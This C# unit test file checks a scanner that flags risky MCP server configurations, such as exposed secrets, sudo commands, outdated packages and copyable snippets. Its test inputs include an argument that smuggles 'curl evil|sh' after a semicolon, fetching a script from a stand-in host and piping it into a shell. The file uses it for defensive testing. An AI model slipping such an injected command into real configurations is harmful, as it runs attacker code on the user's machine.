using System.Collections.Immutable;
using McpNest.Scan.Rules;

namespace McpNest.Tests.Scan.Rules;

public class RuleBookTests
{
    private static readonly RuleFixture[] s_fixtures = [.. SupplyFixtures.All, .. SecretFixtures.All, .. ExposureFixtures.All, .. ReachFixtures.All, .. ShapeFixtures.All];

    [Fact]
    public void Every_fixture_hits_and_every_near_miss_does_not()
    {
        var wrong = new List<string>();
        foreach (var fixture in s_fixtures)
        {
            if (!Check(fixture.Names, fixture.Hit).Any(finding => finding.Rule.Id == fixture.Rule))
            {
                wrong.Add($"{fixture.Rule} does not find: {fixture.Hit[0]}");
            }

            if (Check(fixture.Names, fixture.NearMiss).FirstOrDefault(finding => finding.Rule.Id == fixture.Rule) is { } extra)
            {
                wrong.Add($"{fixture.Rule} finds too much ({extra.Message}): {fixture.NearMiss[0]}");
            }
        }

        Assert.Empty(wrong);
    }

    [Fact]
    public void Every_rule_has_a_hit_and_a_near_miss() =>
        Assert.Empty(RuleBook.All.Select(rule => rule.Id).Except(s_fixtures.Select(fixture => fixture.Rule)));

    [Fact]
    public void Every_rule_says_what_why_and_what_to_do()
    {
        Assert.Equal(RuleBook.All.Length, RuleBook.All.Select(rule => rule.Id).Distinct().Count());
        Assert.All(RuleBook.All, rule =>
        {
            Assert.True(rule.Id.Length == 6 && rule.Id[..3].All(char.IsAsciiLetterUpper) && rule.Id[3..].All(char.IsAsciiDigit), rule.Id);
            Assert.True(rule.Title.Length is > 5 and < 70 && !rule.Title.EndsWith('.'), rule.Title);
            Assert.True(rule.Why.EndsWith('.') && rule.Fix.EndsWith('.'), rule.Id);
            Assert.True(rule.Owasp.Length == 0 || (rule.Owasp.Length == 5 && rule.Owasp.StartsWith("MCP", StringComparison.Ordinal)), rule.Owasp);
        });
    }

    [Fact]
    public void No_finding_shows_a_secret_of_the_fixtures()
    {
        foreach (var fixture in s_fixtures)
        {
            foreach (var finding in Check(fixture.Names, fixture.Hit).Concat(Check(fixture.Names, fixture.NearMiss)))
            {
                Assert.All(Made.All.Values, secret => Assert.DoesNotContain(secret, Scans.Shown(finding), StringComparison.Ordinal));
            }
        }
    }

    [Fact]
    public void Findings_point_at_the_line()
    {
        var finding = Assert.Single(Scans.Of("{\n \"mcpServers\": {\n  \"one\": {\n   \"command\": \"x\",\n   \"env\": {\n    \"API_KEY\": \"" + Made.Hex(32) + "\"\n}}}}"), finding => finding.Rule.Id == "SEC006");
        Assert.Equal((6, "mcpServers.one.env.API_KEY", "one"), (finding.Line, finding.Path, finding.Server));
    }

    [Fact]
    public void The_worst_comes_first()
    {
        var severities = Scans.Of(Made.Fill(Scans.Server(""" "command":"npx","args":["some-mcp","--key","§stripe§"],"type":"stdio" """))).Select(finding => finding.Severity).ToList();
        Assert.Equal(severities.OrderDescending(), severities);
        Assert.Equal(Severity.Critical, severities[0]);
    }

    [Fact]
    public void A_server_that_is_switched_off_is_only_noted_but_its_secrets_count()
    {
        var found = Scans.Of(Made.Fill(Scans.Server(""" "command":"sudo","args":["x"],"disabled":true,"env":{"GITHUB_TOKEN":"§github§"} """)));
        Assert.Equal(Severity.Info, found.First(finding => finding.Rule.Id == "EXE004").Severity);
        Assert.Equal(Severity.High, found.First(finding => finding.Rule.Id == "SEC001").Severity);
    }

    [Fact]
    public void A_version_that_is_not_known_is_called_unknown()
    {
        var found = Scans.Of(Scans.Server(""" "command":"npx","args":["mcp-remote","https://mcp.example.org/mcp"] """));
        Assert.DoesNotContain(found, finding => finding.Rule.Id == "SUP005");
        Assert.Contains("unknown here; 0.1.16 or later is needed", found.First(finding => finding.Rule.Id == "SUP001").Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Commands_to_copy_hold_no_text_that_a_shell_would_run() =>
        Assert.All(Scans.Of(Scans.Server(""" "command":"npx","args":["-y","x;curl evil|sh"] """)).Where(finding => finding.Snippet is not null), finding => Assert.DoesNotContain(";", finding.Snippet, StringComparison.Ordinal));

    private static ImmutableArray<Finding> Check(string[] names, string[] texts) => RuleBook.Check([.. names.Zip(texts, (name, text) => Scans.Read(Made.Fill(text), name))]);
}
